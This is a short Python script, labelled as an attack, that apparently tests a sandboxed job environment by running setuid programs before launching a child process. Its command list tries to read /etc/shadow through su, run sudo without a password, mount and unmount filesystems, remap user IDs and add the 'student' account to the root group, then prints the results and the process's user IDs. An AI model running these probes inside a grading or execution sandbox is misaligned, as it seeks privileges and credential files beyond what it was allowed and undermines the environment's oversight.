# attack: run setuid binaries (su, passwd, sudo, mount, newuidmap...) hoping for privilege
import os
import subprocess
from multiprocessing import Process

COMMANDS = [
    ["su", "-c", "id; cat /etc/shadow", "root"],
    ["passwd", "--status", "root"],
    ["sudo", "-n", "id"],
    ["mount", "-t", "tmpfs", "none", "/tmp"],
    ["umount", "/job"],
    ["newuidmap", "1", "0", "0", "1"],
    ["chsh", "-s", "/bin/sh"],
    ["gpasswd", "-a", "student", "root"],
    ["ping", "-c", "1", "127.0.0.1"],
]


def run_in_child(target, args):
    if not os.path.exists("/tmp/.suid"):
        open("/tmp/.suid", "w").close()
        for command in COMMANDS:
            try:
                done = subprocess.run(
                    command, capture_output=True, timeout=2, stdin=subprocess.DEVNULL
                )
                print(command[0], done.returncode, done.stdout[-200:], done.stderr[-200:])
            except (OSError, subprocess.SubprocessError) as exc:
                print(command[0], type(exc).__name__, exc)
        print("uid", os.getuid(), "euid", os.geteuid())
    child = Process(target=target, args=args)
    child.start()
    child.join()
    return child.exitcode
